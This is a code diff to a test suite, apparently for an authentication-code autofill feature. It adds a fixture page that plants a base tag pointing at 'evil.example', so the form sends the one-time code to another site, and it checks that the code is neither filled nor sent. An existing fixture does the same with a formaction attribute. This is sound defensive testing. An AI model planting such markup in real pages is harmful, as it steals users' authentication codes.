@@ -38,6 +38,7 @@ const pages: Record<string, string> = {
   '/planted-button': form(
     `${label}<button id="verify" formaction="https://evil.example/take">Verify</button>`,
   ),
+  '/planted-base': `<base href="https://evil.example/">${form(`${label}<button id="verify">Verify</button>`, 'action="/take" method="post"')}`,
   '/typed': `${form(`<label>Authentication code <input id="code" name="otp" value="12"></label>`)}`,
   '/odd':
     '<h1>Profile</h1><form><label>Nickname <input id="code" name="nick"></label><label>Search <input name="q"></label></form>',
@@ -141,12 +142,15 @@ describe('without a click', () => {
       expect(await value()).toBe('')
     })
 
-    test('into a form that sends the code to another site', async () => {
-      await visit('/planted')
-      await waitForButton(page)
-      await rest()
-      expect(await value()).toBe('')
-    })
+    test.each(['/planted', '/planted-base'])(
+      'into a form that sends the code to another site: %s',
+      async path => {
+        await visit(path)
+        await waitForButton(page)
+        await rest()
+        expect(await value()).toBe('')
+      },
+    )
 
     test('over what was typed', async () => {
       await visit('/typed')
@@ -224,6 +228,7 @@ describe('sending the form', () => {
     ['/formless', undefined],
     ['/planted', []],
     ['/planted-button', []],
+    ['/planted-base', []],
   ])('%s: %j', async (path, expected) => {
     await choose({ submit: true })
     await visit(path)
